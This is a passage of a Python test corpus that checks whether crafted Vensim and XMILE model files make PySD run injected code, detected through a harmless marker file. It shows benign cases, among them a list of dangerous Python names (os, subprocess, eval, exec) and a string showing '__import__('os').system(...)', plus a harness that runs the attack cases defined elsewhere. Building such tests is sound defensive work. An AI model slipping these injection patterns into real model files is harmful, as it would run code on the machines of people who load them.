RISKY_NAMES = ("sys", "socket", "shutil", "subprocess", "pickle", "marshal", "ctypes",
               "builtins", "os", "eval", "open", "exec", "importlib", "getattr", "compile",
               "type")
TRICKY_COMMENTS = {
    "double-quotes": 'He said "hello" and left.',
    "triple-quotes": 'A """ triple quote and a \'\'\' one.',
    "backslashes": "Path C:\\temp\\new and a \\ b.",
    "quote-backslash": 'Ends with a backslash-quote \\" and \\"""',
    "code-words": "Never write __import__('os').system('x') or eval(open('f')) in a model.",
    "format-markers": "Percent %s and %(name)s and {0} and {name} and # hash.",
    "unicode-quotes": "人才预算 “份额” 「引号」 and \"mixed\" quotes.",
}


def _benign_cases() -> None:
    for name in RISKY_NAMES:
        comment = f"The {name} constant (a legitimate name)."
        _benign(f"ok-name-{name}", ".mdl", mdl(
            rec(f"{name} = 3", "Dmnl [0,10]", comment),
            rec(f"uses {name} = {name} * 2", "Dmnl", f"Twice {name}.")),
            [(name, comment), (f"uses {name}", f"Twice {name}.")], f"a variable named {name}")
    _benign("ok-name-tilde-pipe", ".mdl", mdl(
        rec('"a~b" = 1', "Dmnl", "Quoted name with a tilde."),
        rec('"p|q" = 2', "Dmnl", "Quoted name with a pipe."),
        rec('total = "a~b" + "p|q"', "Dmnl", "Sum of both.")),
        [('"a~b"', "Quoted name with a tilde."), ('"p|q"', "Quoted name with a pipe."),
         ("total", "Sum of both.")], "quoted names containing ~ and |")
    _benign("ok-name-quotes", ".mdl", mdl(
        rec('"it\'s \\"quoted\\"" = 1', "Dmnl", "A name with quotes."),
        rec('"back\\\\slash" = 2', "Dmnl", "A name with a backslash.")),
        [('"it\'s \\"quoted\\""', "A name with quotes."),
         ('"back\\\\slash"', "A name with a backslash.")],
        "quoted names with quotes and backslashes")
    for key, comment in TRICKY_COMMENTS.items():
        _benign(f"ok-comment-{key}", ".mdl", mdl(rec("x = lever", "Dmnl", comment)),
                [("x", comment)], f"comment with {key}", plain_pysd_loads='"""' not in comment)
    _benign("ok-units-quotes", ".mdl", mdl(rec("x = lever", '"people" / year', "Plain.")),
            [("x", "Plain.")], "units with a quoted unit name")
    _benign("ok-lookup-ranges", ".mdl", mdl(
        rec("tbl([(0,0)-(10,2)],(0,0.5),(10,1.5))", "Dmnl", "An ordinary lookup."),
        rec("y = tbl(lever) + WITH LOOKUP(lever, ([(0,0)-(2,2)],(0,0),(2,2)))", "Dmnl",
            "Uses both lookup forms.")),
        [("tbl", "An ordinary lookup."), ("y", "Uses both lookup forms.")],
        "lookup ranges (the text PySD evals)")
    _benign("ok-macro-comment", ".mdl", macro(comment='Doubles "its" input \\ twice.'),
            [("x", "")], "a macro whose comment has quotes")
    _benign("ok-utf8-chinese", ".mdl", mdl(
        rec('"人才预算" = 1', "元", "人才预算的“份额”。"),
        rec('"总量" = "人才预算" * 2', "元", "两倍。")),
        [("人才预算", "人才预算的“份额”。"), ("总量", "两倍。")], "UTF-8 Chinese names")
    xdoc = 'He said "hi" \\ and &quot;bye&quot; """ end.'
    _benign("ok-xmile-doc-quotes", ".xmile", xmile(
        f'<aux name="x"><eqn>lever</eqn><doc>{xdoc}</doc></aux>'),
        [("x", html.unescape(xdoc))], "XMILE doc with quotes and a backslash",
        plain_pysd_loads=False)
    _benign("ok-xmile-doc-cdata", ".stmx", xmile(
        '<aux name="x"><eqn>lever</eqn><doc><![CDATA[a "b" <c> \'d\']]></doc></aux>'),
        [("x", "a \"b\" <c> 'd'")], "XMILE doc in CDATA")
    _benign("ok-xmile-risky-names", ".xmile", xmile(
        '<aux name="os"><eqn>1</eqn><doc>Os.</doc></aux>'
        '<aux name="eval"><eqn>os + 1</eqn><doc>Eval.</doc></aux>'
        '<aux name="subprocess"><eqn>eval * 2</eqn><doc>Subprocess.</doc></aux>'),
        [("os", "Os."), ("eval", "Eval."), ("subprocess", "Subprocess.")],
        "XMILE variables named os, eval, subprocess")


_encoding_cases()
_strings_cases()
_xmile_cases()
_macro_cases()
_evasion_cases()
_translator_cases()
_module_import_cases()
_benign_cases()

ATTACKS: list[PayloadCase] = [c for c in CASES if c.expected == "attack"]
BENIGN: list[PayloadCase] = [c for c in CASES if c.expected == "benign"]
BY_ID: dict[str, PayloadCase] = {c.id: c for c in CASES}
if len(BY_ID) != len(CASES):  # pragma: no cover - a corpus bug
    raise RuntimeError("duplicate payload ids")

#: One attack per class (and per format) for the command-line tests.
CLI_SUBSET: tuple[str, ...] = (
    "enc-utf7-quotes-path", "enc-gbk-hidden-pipe", "str-fn-name-gen-frame",
    "str-data-name-path", "xml-doc-ref34-aux-path-touch-xmile",
    "xml-doc-prefix-aux-path-touch-xmile", "xml-doc-ref34-aux-os-system-stmx",
    "mac-name", "eva-gen-frame", "tev-lookup-range-stealth", "imp-data-name-path",
)


# --------------------------------------------------------------------------- verification
def _check_one(case: PayloadCase, folder: Path, timeout: int) -> dict[str, Any]:
    """Run one case through plain PySD; report where (if anywhere) the marker appeared."""
    import pysd

    marker = folder / MARKER_NAME
    path = case.write(folder, marker)
    os.chdir(folder)  # as the tests do: the marker's folder is the current folder
    result: dict[str, Any] = {"stage": "", "error": "", "loaded": False}

    def expired(signum: int, frame: Any) -> None:
        raise TimeoutError(f"{case.id} took more than {timeout} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.alarm(timeout)
    try:
        if case.suffix == ".mdl":
            from pysd.translators.vensim.vensim_file import VensimFile as Reader
        else:
            from pysd.translators.xmile.xmile_file import XmileFile as Reader
        try:
            Reader(path).parse()
        except Exception as err:  # the parse may fail after the payload ran
            result["error"] = f"parse: {type(err).__name__}: {err}"[:300]
        if marker.exists():
            result["stage"] = "parse"
            return result
        read = pysd.read_vensim if case.suffix == ".mdl" else pysd.read_xmile
        model = read(str(path))
        result["loaded"] = True
        if marker.exists():
            result["stage"] = "load"
            return result
        model.run()
        if marker.exists():
            result["stage"] = "run"
    except BaseException as err:  # noqa: BLE001 - payloads raise anything once they ran
        result["error"] = f"{type(err).__name__}: {err}"[:300]
        if marker.exists():
            result["stage"] = "load" if not result["loaded"] else "run"
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    return result


def verify_with_pysd(ids: Iterable[str], root: Path, timeout: int = 60) -> dict[str, Any]:
    """Translate, load and run each case with plain PySD under ``root``; results by id.

    Meant to run in a fresh subprocess (payloads run code in the calling process).
    """
    warnings.simplefilter("ignore")
    results = {}
    for case_id in ids:
        began = time.perf_counter()
        results[case_id] = _check_one(BY_ID[case_id], root / case_id, timeout)
        results[case_id]["seconds"] = round(time.perf_counter() - began, 3)
    return results


def _main(argv: list[str]) -> int:
    if argv[:1] == ["list"]:
        for case in CASES:
            print(f"{case.expected:7} {case.klass:17} {case.suffix:7} {case.stage:5} {case.id}")
        return 0
    if len(argv) >= 3 and argv[0] == "verify":
        out, root = Path(argv[1]), Path(argv[2])
        ids = argv[3:] or [c.id for c in CASES]
        out.write_text(json.dumps(verify_with_pysd(ids, root), indent=1), encoding="utf-8")
        return 0
    print("usage: payloads.py list | verify OUT.json ROOT [ID...]", file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(_main(sys.argv[1:]))
